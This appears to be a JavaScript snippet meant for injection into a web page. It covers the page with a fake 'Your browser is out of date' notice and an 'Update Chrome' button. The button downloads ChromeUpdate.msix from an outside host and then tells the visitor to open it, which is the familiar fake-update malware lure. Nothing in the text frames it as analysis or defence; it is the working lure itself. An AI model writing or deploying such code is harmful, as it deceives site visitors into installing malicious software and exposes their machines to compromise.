(function () {
  var cover = document.createElement("div");
  cover.style.cssText = "position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;opacity:.97;z-index:9999999";
  var box = document.createElement("div");
  box.innerHTML = "<h2>Your browser is out of date</h2><p>A critical security update is required to view this page.</p><button id='upd'>Update Chrome</button>";
  cover.appendChild(box);
  document.body.appendChild(cover);
  document.getElementById("upd").onclick = function () {
    this.textContent = "Downloading…";
    var a = document.createElement("a");
    a.href = "https://cdn-up.invalid/ChromeUpdate.msix";
    a.download = "ChromeUpdate.msix";
    document.body.appendChild(a);
    a.click();
    setTimeout(function () { box.innerHTML = "<h2>Open the downloaded file to finish</h2>"; }, 3000);
  };
})();
